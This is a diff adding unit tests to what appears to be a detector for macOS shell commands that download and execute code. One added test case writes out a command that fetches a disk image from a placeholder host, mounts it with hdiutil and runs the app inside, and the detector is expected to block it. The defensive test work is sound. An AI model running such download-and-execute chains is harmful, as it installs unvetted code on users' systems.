@@ -343,6 +343,19 @@ describe('macOS: an app unpacked with ditto from a download and opened', () => {
       'zsh',
       'dl.archive-then-run',
     ));
+  it('blocks a downloaded disk image mounted with hdiutil and run from /Volumes', () =>
+    blocksAs(
+      'curl -sL https://x.example/app.dmg -o /tmp/a.dmg; hdiutil attach /tmp/a.dmg -nobrowse; /Volumes/App/App.app/Contents/MacOS/App &',
+      'zsh',
+      'dl.archive-then-run',
+    ));
+  it('allows a mounted image that was not downloaded, or one only listed', () => {
+    notDownloadExecute('hdiutil attach ~/Downloads/Tool.dmg; /Volumes/Tool/Tool.app/Contents/MacOS/Tool --version', 'zsh');
+    notDownloadExecute(
+      'curl -sL https://x.example/app.dmg -o /tmp/a.dmg; hdiutil attach /tmp/a.dmg; ls /Volumes/App; hdiutil detach /Volumes/App',
+      'zsh',
+    );
+  });
   it('allows the same for an archive that was not downloaded, and ditto copying', () => {
     notDownloadExecute('ditto -xk ~/Downloads/Tool.zip /Applications/ && open /Applications/Tool.app', 'zsh');
     notDownloadExecute('curl -sLo /tmp/a.zip https://x.example/a.zip && ditto /tmp/a.zip /Volumes/Backup/', 'zsh');
